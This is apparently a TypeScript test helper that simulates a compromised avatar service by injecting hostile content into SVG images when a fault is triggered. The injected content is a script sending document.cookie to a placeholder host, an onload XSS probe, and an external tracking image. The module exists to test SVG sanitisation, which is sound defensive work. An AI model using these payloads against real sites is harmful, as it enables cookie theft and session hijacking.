import type { Faults } from '../faults/index.ts'

const SCRIPT = '<script>fetch("https://collector.example/?"+document.cookie)</script>'
const REFERENCE = '<image href="https://collector.example/pixel.png" width="1" height="1"/>'

/** The drawing as a service that was broken into would send it, if a fault asks for that. */
export function withHostileParts(faults: Faults, operation: string, svg: string): string {
  const scripted = faults.take('dicebear', operation, 'script_in_svg')
    ? svg.replace('<svg ', '<svg onload="alert(document.domain)" ').replace('</svg>', `${SCRIPT}</svg>`)
    : svg
  return faults.take('dicebear', operation, 'external_reference')
    ? scripted.replace('</svg>', `${REFERENCE}</svg>`)
    : scripted
}
